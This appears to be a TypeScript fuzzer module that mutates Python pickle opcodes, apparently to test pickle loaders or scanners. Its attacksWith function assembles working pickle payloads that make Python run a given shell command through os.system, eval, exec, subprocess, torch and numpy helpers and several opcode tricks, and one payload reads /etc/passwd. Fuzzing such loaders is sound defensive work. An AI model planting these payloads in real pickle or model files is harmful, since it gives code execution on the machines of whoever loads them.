import { edge, joined, mutateBytes } from "./mutate-bytes.ts";
import type { Random } from "./random.ts";

/** One opcode with its argument. */
type Op = Uint8Array;

/** How long an opcode's argument is: a number of bytes, as many as a length in front says, or lines. */
const fixed = new Map<number, number>(
  Object.entries({ K: 1, M: 2, J: 4, G: 8, h: 1, j: 4, q: 1, r: 4 }).map(([letter, size]) => [
    letter.charCodeAt(0),
    size,
  ]),
);
const counted = new Map([
  [0x8c, 1], // SHORT_BINUNICODE
  [0x58, 4], // BINUNICODE
  [0x8d, 8], // BINUNICODE8
  [0x43, 1], // SHORT_BINBYTES
  [0x42, 4], // BINBYTES
  [0x8e, 8], // BINBYTES8
  [0x96, 8], // BYTEARRAY8
  [0x8a, 1], // LONG1
]);
const PROTO = 0x80;
const FRAME = 0x95;
const GLOBAL = 0x63;

/** The opcodes of a pickle; what is not understood is one that goes to the end. */
export function opcodesOf(bytes: Uint8Array): Op[] {
  const ops: Op[] = [];
  for (let at = 0; at < bytes.length;) {
    const length = Math.min(1 + argumentLength(bytes, at), bytes.length - at);
    ops.push(bytes.subarray(at, at + length));
    at += length;
  }
  return ops;
}

function argumentLength(bytes: Uint8Array, at: number): number {
  const opcode = bytes[at] ?? 0;
  const width = counted.get(opcode);
  if (width !== undefined) {
    let length = 0;
    for (let i = width; i > 0; i--) length = length * 256 + (bytes[at + i] ?? 0);
    return width + length;
  }
  if (opcode === GLOBAL) return Math.max(0, bytes.indexOf(0x0a, bytes.indexOf(0x0a, at) + 1) - at);
  return opcode === PROTO ? 1 : opcode === FRAME ? 8 : (fixed.get(opcode) ?? 0);
}

/** Changes opcodes of a pickle: left out, repeated, moved, with other arguments, or others that would run code. */
export function mutatePickle(bytes: Uint8Array, random: Random, command: string): Uint8Array {
  const ops = opcodesOf(bytes);
  const attacks = attacksWith(command);
  for (let n = 1 + random.below(4); n > 0; n--) {
    const at = random.below(ops.length);
    const op = ops[at] ?? new Uint8Array(0);
    const other = ops[random.below(ops.length)] ?? op;
    switch (random.below(8)) {
      case 0:
        ops.splice(at, 1);
        break;
      case 1:
        for (let copies = random.once(10) ? 5000 : 1; copies > 0; copies--) ops.splice(at, 0, op);
        break;
      case 2:
        ops[at] = other;
        break;
      case 3:
        ops.splice(at, 1 + random.below(30));
        break;
      case 4:
        ops[at] = joined(op.subarray(0, 1), mutateBytes(op.subarray(1), random));
        break;
      case 5:
        ops[at] = joined(numbers(random));
        break;
      case 6:
        ops[at] = Uint8Array.of(letters[random.below(letters.length)] ?? 0);
        break;
      default:
        ops.splice(at, random.below(2), random.of(attacks));
    }
  }
  return joined(...ops);
}

/** Opcodes without arguments: marks, collections, calls, objects. */
const letters = Buffer.from(
  "(012)]}.Rbostue\u0081\u0085\u0086\u0087\u0088\u0089\u008f\u0090\u0091\u0092\u0093\u0094N",
  "latin1",
);

/** A number that sizes, offsets and indices go wrong at. */
function numbers(random: Random): Uint8Array {
  const bytes = Buffer.alloc(11);
  bytes.set([0x8a, 9]); // LONG1
  bytes.writeBigUInt64LE(edge(random), 2);
  return bytes;
}

function line(...parts: readonly string[]): Uint8Array {
  return Buffer.from(parts.join(""), "latin1");
}

function text(value: string): string {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(Buffer.byteLength(value));
  return `X${length.toString("latin1")}${value}`;
}

/** Opcodes that make Python run a command: each way that it has to call something. */
export function attacksWith(command: string): readonly [Uint8Array, ...Uint8Array[]] {
  const python = `__import__('os').system(${JSON.stringify(command)})`;
  const reduced = (module: string, name: string, argument: string): Uint8Array =>
    line(`c${module}\n${name}\n`, text(argument), "\u0085R");
  return [
    reduced("os", "system", command),
    reduced("posix", "system", command),
    reduced("subprocess", "getoutput", command),
    reduced("builtins", "eval", python),
    reduced("builtins", "exec", python),
    reduced("__builtin__", "eval", python),
    reduced("torch.serialization", "load", "/etc/passwd"),
    reduced("torch.utils.collect_env", "run", command),
    reduced("numpy.testing._private.utils", "runstring", python),
    reduced("torch._utils", "_rebuild_tensor_v2", command),
    // STACK_GLOBAL, of names that other opcodes made.
    line(text("os"), text("system"), "\u0093", text(command), "\u0085R"),
    // An attribute of what is allowed.
    line("ccollections\nOrderedDict.__init__.__globals__\n", text(command), "\u0085R"),
    line("(", text(command), "ios\nsystem\n"), // INST
    line("(cos\nsystem\n", text(command), "o"), // OBJ
    line("cos\nsystem\n", text(command), "\u0085\u0081"), // NEWOBJ
    line("cos\nsystem\n", text(command), "\u0085}\u0092"), // NEWOBJ_EX
    // A state whose __setstate__, or whose __class__, would do it.
    line("ccollections\nOrderedDict\n)R}", text("__setstate__"), "cos\nsystem\nsb", text(command), "b"),
    line(`P${command}\n`), // PERSID
    line(text(command), "Q"), // BINPERSID
    line("\u0082\u0001"), // EXT1
  ];
}
